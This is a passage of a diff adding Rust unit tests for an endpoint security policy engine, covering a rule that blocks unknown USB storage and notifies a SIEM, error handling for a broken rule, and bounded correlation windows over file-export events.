+        "[[rule]]\nid = \"site.block-unknown\"\ntitle = \"Block unknown storage\"\nlevel = \"red\"\non = [\"usb.attached\"]\ncondition = \"device.known == false\"\nkey = \"agent.id + event.data.hash\"\nsummary = \"blocking {event.data.hash}\"\n\
+         [[rule.actions]]\ntype = \"block-device\"\ntarget = \"event.data.hash\"\nvalid = \"2m\"\n[[rule.actions]]\ntype = \"notify\"\nsinks = [\"siem\"]\n",
+    );
+    let f = h.event(
+        "ws-9",
+        "workstation",
+        DAY,
+        "usb.attached",
+        usb(json!({"hash": "feed"})),
+    );
+    let out = h
+        .store
+        .in_transaction(|tx| h.engine.evaluate(tx, &h.policy, &[f], DAY.parse().unwrap()))
+        .unwrap();
+    assert_eq!(out.commands.len(), 1);
+    let c = &out.commands[0];
+    assert_eq!(c.agent_id, "ws-9");
+    assert_eq!(c.valid_secs, 120);
+    assert_eq!(
+        c.action,
+        weilan_config::wire::CommandAction::BlockDevice {
+            device_hash: "feed".into()
+        }
+    );
+    assert!(
+        c.reason.starts_with("rule site.block-unknown (alert "),
+        "{}",
+        c.reason
+    );
+    assert!(out
+        .notify
+        .iter()
+        .any(|(a, sinks)| a.rule_id == "site.block-unknown" && sinks == &["siem"]));
+}
+
+#[test]
+fn evaluation_errors_are_counted_and_skip_only_that_rule() {
+    let mut h = Harness::with_rules(
+        "[[rule]]\nid = \"site.broken\"\ntitle = \"t\"\nlevel = \"blue\"\non = [\"usb.attached\"]\ncondition = \"event.data.no_such_field == 1\"\nsummary = \"x\"\n",
+    );
+    let f = h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({})));
+    let alerts = h.feed(DAY, vec![f]);
+    assert_eq!(h.engine.stats.errors, 1);
+    assert!(alerts
+        .iter()
+        .any(|a| a.rule_id == "builtin.usb.unknown-storage"));
+    assert!(!alerts.iter().any(|a| a.rule_id == "site.broken"));
+}
+
+#[test]
+fn correlation_windows_are_bounded_per_group() {
+    let mut h = Harness::new();
+    // 200 exports: the count window keeps only what its threshold (51) needs.
+    let facts: Vec<Fact> = (0..200)
+        .map(|_| {
+            h.event(
+                "ws-1",
+                "workstation",
+                DAY,
+                "file.exported",
+                exported(json!({})),
+            )
+        })
+        .collect();
+    h.feed(DAY, facts);
+    assert_eq!(
+        h.engine.stats.state_dropped, 0,
+        "dropping beyond a count's threshold changes nothing"
+    );
+    assert!(h.engine.take_overflow().is_none());
+}
